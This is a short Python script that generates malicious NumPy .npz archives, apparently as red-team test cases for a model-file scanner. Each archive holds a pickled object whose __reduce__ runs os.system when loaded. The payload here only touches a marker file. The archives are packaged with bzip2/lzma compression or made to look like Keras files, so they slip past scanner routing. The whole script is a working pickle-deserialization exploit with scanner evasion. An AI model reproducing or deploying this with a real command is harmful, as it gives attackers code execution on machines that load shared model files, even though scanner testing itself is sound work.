import numpy as np, io, zipfile, struct, zlib, json
def npy_bytes(tag):
    class P:
        def __reduce__(self):
            import os; return (os.system, ("touch /tmp/rt15/pwned_%s" % tag,))
    a = np.empty(1, dtype=object); a[0] = P()
    b = io.BytesIO(); np.save(b, a, allow_pickle=True); return b.getvalue()
# A: bzip2 / lzma compressed members
for tag, comp in [("npz_bzip2", zipfile.ZIP_BZIP2), ("npz_lzma", zipfile.ZIP_LZMA)]:
    with zipfile.ZipFile(f"fn_{tag}.npz", "w", comp) as z:
        z.writestr("arr_0.npy", npy_bytes(tag))
# B: keras-looking npz: config.json + metadata.json present -> .json/.h5 members are not routed
for tag, member in [("npz_keras_json", "weights.json"), ("npz_keras_h5", "weights.h5")]:
    with zipfile.ZipFile(f"fn_{tag}.npz", "w") as z:
        z.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": []}}))
        z.writestr("metadata.json", "{}")
        z.writestr(member, npy_bytes(tag))
